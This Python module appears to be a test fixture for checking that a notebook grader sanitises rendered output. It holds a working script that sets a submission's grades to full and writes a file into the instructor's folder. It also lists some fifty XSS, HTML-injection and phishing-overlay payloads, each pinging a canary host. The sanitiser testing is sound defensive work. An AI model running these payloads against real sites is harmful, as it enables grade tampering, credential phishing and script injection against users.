"""Known ways to have a page run a script, ask for something, or be covered: each calls CANARY if it comes through."""

from __future__ import annotations

from urllib.parse import quote

HOST = "http://canary.test"

# What a student would really do in formgrader: all grades to full, and a file into the instructor's folder.
TAKE_OVER = """
<script>
(async () => {
  const base = location.origin + location.pathname.split("/formgrader/")[0];
  const headers = {"X-XSRFToken": (document.cookie.match(/_xsrf=([^;]*)/) || [])[1] || ""};
  const id = location.pathname.match(/submissions\\/([^/]+)/)[1];
  const grades = await (await fetch(`${base}/formgrader/api/grades?submission_id=${id}`)).json();
  for (const grade of grades) {
    await fetch(`${base}/formgrader/api/grade/${grade.id}`, {method: "PUT", headers,
      body: JSON.stringify({manual_score: grade.max_score, extra_credit: 0})});
  }
  await fetch(`${base}/api/contents/pwned.txt`, {method: "PUT", headers,
    body: JSON.stringify({type: "file", format: "text", content: "pwned"})});
})();
</script>
"""

_PAYLOADS = {
    # scripts
    "script": "<script>JS</script>",
    "script-src": "<script src=URL></script>",
    "script-module": "<script type=module>JS</script>",
    "script-nested": "<scr<script>ipt>JS</scr</script>ipt>",
    "script-of-mathjax": "<script type='text/x-mathjax-config'>JS</script>",
    # event handlers
    "img-onerror": '<img src=x onerror="JS">',
    "img-slashes": "<img/src='x'/onerror=JS>",
    "details-ontoggle": '<details open ontoggle="JS">x</details>',
    "input-autofocus": '<input autofocus onfocus="JS">',
    "video-onerror": '<video><source onerror="JS"></video>',
    "animation": "<style>@keyframes k{}</style><b style='animation-name:k' onanimationstart=\"JS\">x</b>",
    "body-onpageshow": '<body onpageshow="JS">',
    # SVG and MathML
    "svg-onload": '<svg onload="JS"></svg>',
    "svg-script": "<svg><script>JS</script></svg>",
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:JS"/><text y=20>click</text></a></svg>',
    "svg-use": '<svg><use href="URL#x"/><image href="URL"/></svg>',
    "math-link": '<math><mtext href="javascript:JS"><b>click</b></mtext></math>',
    # links
    "link-javascript": '<a href="javascript:JS">click</a>',
    "link-whitespace": '<a href="java&#10;script:JS">click</a><a href=" &#1;javascript:JS">click</a>',
    "link-data": '<a href="data:text/html,<script>JS</script>">click</a>',
    "link-markdown": "[click](javascript:JSENC)",
    "link-reference": "[click][a]\n\n[a]: javascript:JSENC",
    "link-autolink": "<javascript:JSENC>",
    "link-entities": "[click](&#106;avascript&colon;JSENC)",
    "link-brackets": "[![x](x)](javascript:JSENC) [a[b](javascript:JSENC)](x)",
    # what a page asks for
    "image": "<img src=URL>",
    "image-markdown": "![x](URL)",
    "image-srcset": '<img srcset="URL 1x"><picture><source srcset=URL><img></picture>',
    "iframe": "<iframe src=URL></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "object": "<object data=URL></object><embed src=URL>",
    "refresh": '<meta http-equiv=refresh content="0;url=data:text/html,<script>JS</script>">',
    "stylesheet": "<link rel=stylesheet href=URL><link rel=prefetch href=URL>",
    "css-import": "<style>@import 'URL';</style>",
    "css-url": '<b style="background:url(URL)">x</b>',
    "css-cover": "<div style='position:fixed;inset:0;z-index:9999;background:url(URL)'>Log in again</div>",
    "form": "<form action=URL><button>click</button></form><button formaction=URL>click</button>",
    "isolated": "<audio src=URL autoplay></audio><video poster=URL></video>",
    "dangling": "<img src='URL?",
    # where parsers disagree
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=JS&gt;'>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "mutation-title": '<title><a title="</title><img src=x onerror=JS>">',
    "mutation-textarea": '<textarea><img title="</textarea><img src=x onerror=JS>">',
    "mutation-xmp": '<xmp><p title="</xmp><img src=x onerror=JS>">',
    "fence-breakout": '```x\'onmouseover=JS\n</code><img src=x onerror="JS">\n```\n</pre><img src=x onerror="JS">',
    "code-breakout": '`</code><img src=x onerror="JS">`',
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=\'JS\'>"]; click A "javascript:JSENC"\n```',
    "maths": '$</span><img src=x onerror="JS">$ $\\href{javascript:JSENC}{click}$ <img src=x onerror=JS>',
    "table": '|a|\n|-|\n|<img src=x onerror="JS">|',
    "heading": '# x <img src=x onerror="JS">',
    "entities": '&lt;img src=x onerror="JS"&gt;',
    "ids": "<a id=formgrader href=x>y</a><form id=reflect-forget><input name=attributes></form>",
    "base": "<base href=URL>",
    # they swallow what follows, so they stand last
    "comment": '<!-- <img src=x onerror="JS"> --!><img src=x onerror="JS"> -->',
    "template": '<template><img src=x onerror="JS"></template><select><template><img src=x onerror="JS">',
    "plaintext": '<img src=x onerror="JS"><plaintext>',
}


def _filled_in(name: str, text: str) -> str:
    url = f"{HOST}/{name}"
    script = f"new(Image)().src=`{url}`"
    return text.replace("JSENC", quote(script, safe="")).replace("JS", script).replace("URL", url)


PAYLOADS = {name: _filled_in(name, text) for name, text in _PAYLOADS.items()}

# Kinds of output that a viewer may act on.
KINDS = (
    *("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "application/javascript"),
    *("application/vnd.jupyter.widget-view+json", "text/vnd.mermaid", "application/json", "application/pdf"),
)
